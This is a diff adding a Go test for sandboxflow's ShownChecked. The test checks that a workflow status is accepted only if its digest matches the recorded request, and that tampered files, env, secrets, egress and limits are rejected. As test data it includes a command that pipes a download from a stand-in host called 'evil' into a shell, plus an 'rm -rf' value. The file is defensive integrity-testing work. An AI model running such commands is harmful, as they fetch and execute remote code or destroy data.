@@ -1,0 +1,78 @@
+package contract
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/sandboxflow/sandboxflow/guard"
+)
+
+// What a workflow worker that is not sandboxflow's can put in a status, against the request the
+// server recorded when the run started: only a status whose digest is the digest of what it
+// shows, with the started request's files and env, is accepted.
+func TestShownCheckedAcceptsOnlyWhatItHashes(t *testing.T) {
+	req := guard.Request{
+		Code:    "import os\nprint(os.environ['GREETING'])",
+		Files:   map[string][]byte{"b.txt": []byte("bee"), "a.csv": []byte("1,2\n")},
+		Env:     map[string]string{"GREETING": "hello", "MODE": "fast"},
+		Egress:  []string{"pypi.org"},
+		Secrets: []string{"token-b", "token-a"},
+		Limits:  guard.Limits{Timeout: 20 * time.Second},
+	}
+	policy := guard.Policy{EgressAllow: []string{"pypi.org"}, SecretNames: []string{"token-a", "token-b"}}
+	checked, err := policy.Check(req, "docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+	honest := checked.Summary()
+	if got, err := ShownChecked(honest, req); err != nil || got.Digest != checked.Digest {
+		t.Fatalf("honest status: %v, digest %s; want accepted with %s", err, got.Digest, checked.Digest)
+	}
+	evil := req
+	evil.Code = "import os; os.system('curl evil | sh')"
+	evilChecked, err := policy.Check(evil, "docker")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		name string
+		sum  func(s *guard.Summary)
+		req  func(r *guard.Request)
+		want string
+	}{
+		{"benign code under the digest of other code", func(s *guard.Summary) { s.Digest = evilChecked.Digest }, nil, "is not the digest of what it shows"},
+		{"benign code while other code was started", nil, func(r *guard.Request) { r.Code = evil.Code }, "differ in their code"},
+		{"other limits than hashed", func(s *guard.Summary) { s.Limits.Timeout = time.Second }, nil, "is not the digest"},
+		{"other backend than hashed", func(s *guard.Summary) { s.Backend = "local" }, nil, "is not the digest"},
+		{"other egress than hashed", func(s *guard.Summary) { s.Egress = []string{"example.com"} }, nil, "is not the digest"},
+		{"egress that does not parse", func(s *guard.Summary) { s.Egress = []string{"http://x/"} }, nil, "does not parse"},
+		{"a file hidden", func(s *guard.Summary) { s.Files = s.Files[:1] }, nil, "input files"},
+		{"a file's size understated", func(s *guard.Summary) { s.Files[0].Size = 1 }, nil, "input files"},
+		{"a file added after the status", nil, func(r *guard.Request) {
+			r.Files = map[string][]byte{"a.csv": []byte("1,2\n"), "b.txt": []byte("bee"), "c.py": nil}
+		}, "input files"},
+		{"an env var hidden", func(s *guard.Summary) { s.EnvNames = []string{"GREETING"} }, nil, "env names"},
+		{"another env value than hashed", nil, func(r *guard.Request) { r.Env = map[string]string{"GREETING": "rm -rf", "MODE": "fast"} }, "is not the digest"},
+		{"another language", func(s *guard.Summary) { s.Language = guard.Shell }, nil, "differ in their language"},
+		{"network hidden", nil, func(r *guard.Request) { r.Network = true }, "differ in their network"},
+		{"a secret hidden", func(s *guard.Summary) { s.Secrets = []string{"token-a"} }, nil, "differ in their secrets"},
+		{"no checked request", func(s *guard.Summary) { *s = guard.Summary{} }, nil, "shows no checked request"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			sum := checked.Summary()
+			sum.Files = append([]guard.FileSummary(nil), sum.Files...)
+			r := req
+			if tc.sum != nil {
+				tc.sum(&sum)
+			}
+			if tc.req != nil {
+				tc.req(&r)
+			}
+			_, err := ShownChecked(sum, r)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("ShownChecked: %v; want an error saying %q", err, tc.want)
+			}
+		})
+	}
+}
